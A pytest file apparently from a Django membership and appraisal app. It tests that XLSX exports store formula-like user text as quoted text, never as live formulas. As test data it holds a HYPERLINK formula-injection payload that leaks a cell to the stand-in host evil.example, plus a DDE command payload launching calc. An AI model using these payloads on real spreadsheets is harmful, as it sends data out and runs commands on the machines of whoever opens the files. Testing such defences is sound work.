"""Every XLSX export goes through members.xlsx, and no cell of any export is a formula.

A member's text typed as a formula (`=HYPERLINK(...)` in a commendation's reason, an
appraisal rating's reason, a session title, a name) comes back as text with a leading quote,
read with openpyxl from the bytes the page served.
"""

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from appraisal.models import Grade, Step
from appraisal.services.rating import ratings_save
from members import xlsx
from tests.appraisal.commendation_helpers import propose, publish
from tests.appraisal.cycles import move_to, open_cycle, vote
from tests.education.helpers import at, held

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _cells(content):
    workbook = load_workbook(BytesIO(content))
    return [cell for ws in workbook.worksheets for row in ws.iter_rows() for cell in row]


def _assert_inert(content, *, expect):
    cells = _cells(content)
    assert cells, "an empty workbook proves nothing"
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert not formulas
    values = [c.value for c in cells if isinstance(c.value, str)]
    assert not [v for v in values if v.startswith(xlsx.FORMULA_TRIGGERS)]
    assert "'" + expect in values


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", EVIL])
def test_the_writer_never_writes_a_formula(text):
    content = xlsx.write_workbook([xlsx.Sheet("Sheet", ["Header"], [[text, 3, date(2025, 1, 2)]])])
    cells = [c for c in _cells(content) if c.value is not None]
    assert [c.data_type for c in cells] == ["s", "s", "n", "d"]
    # (XML keeps a carriage return as a line feed.)
    assert cells[1].value == "'" + text.replace("\r", "\n")
    assert cells[2].value == 3


def test_commendation_export_writes_a_formula_reason_as_text(cast, login):
    publish(cast, propose(cast, reason=EVIL))
    response = login("organizer").get(reverse("appraisal:commendation_export") + "?year=2025")
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "no-store" in response["Cache-Control"]
    assert response["Content-Disposition"].startswith("attachment")
    _assert_inert(response.content, expect=EVIL)


def test_appraisal_results_export_writes_a_formula_reason_as_text(cast, login):
    cycle = move_to(open_cycle(cast.branch), Step.BALLOT)
    for m in (cast.member, cast.peer, cast.secretary):
        vote(cycle, m)
    move_to(cycle, Step.RATING)
    ids = cycle.participants.filter(graded=True).values_list("member_id", flat=True)
    ratings_save(
        cycle=cycle,
        entries={pk: (Grade.BASICALLY_QUALIFIED, EVIL) for pk in ids},
    )
    response = login("secretary").get(reverse("appraisal:export_results", args=[cycle.pk]))
    assert response.status_code == 200
    _assert_inert(response.content, expect=EVIL)


def test_hours_and_roster_exports_write_formula_text_as_text(cast, login):
    cast.member.full_name = "=cmd|' /C calc'!A0"
    cast.member.save()
    held(cast.branch, starts_at=at(2025, 3, 10), title=EVIL)
    client = login("secretary")
    hours = client.get(
        reverse("education:hours_member_export", args=[cast.member.pk]) + "?year=2025"
    )
    _assert_inert(hours.content, expect=EVIL)
    branch = client.get(reverse("education:hours_branch_export") + "?year=2025")
    _assert_inert(branch.content, expect="=cmd|' /C calc'!A0")
    roster = client.get(reverse("members:roster_export") + "?format=xlsx")
    _assert_inert(roster.content, expect="=cmd|' /C calc'!A0")
    rollup = login("organizer").get(reverse("education:hours_rollup_export") + "?year=2025")
    assert rollup.status_code == 200 and not [
        c for c in _cells(rollup.content) if c.data_type == "f"
    ]


def test_import_template_keeps_its_input_lists_and_formats(cast, login):
    response = login("secretary").get(reverse("members:roster_import_template"))
    workbook = load_workbook(BytesIO(response.content))
    roster = workbook.worksheets[0]
    assert len(roster.data_validations.dataValidation) == 3
    assert roster.freeze_panes == "A2"
    assert len(workbook.worksheets) == 2
